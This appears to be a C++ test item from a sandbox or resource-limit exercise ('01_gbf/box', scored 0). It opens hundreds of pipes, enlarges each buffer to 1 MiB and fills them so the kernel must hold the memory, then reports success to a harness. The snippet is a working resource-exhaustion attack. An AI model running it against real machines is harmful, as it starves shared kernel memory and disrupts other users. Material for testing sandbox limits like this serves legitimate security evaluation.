// attack: fills pipes and sockets of its own with what the kernel has to keep
// exercise: 01_gbf/box
// from: own
// score: 0
static bool filled() {
    int pipes = 0;
    for (int i = 0; i < 400; ++i) {
        int pair[2];
        if (::pipe(pair) != 0) break;
        ::fcntl(pair[1], F_SETPIPE_SZ, 1 << 20);
        ::fcntl(pair[1], F_SETFL, O_NONBLOCK);
        static char bytes[1 << 16];
        while (::write(pair[1], bytes, sizeof bytes) > 0) {
        }
        ++pipes;
    }
    return pipes > 300 && prey::won("the kernel keeps much for it");
}

ANSWER_IF(filled())
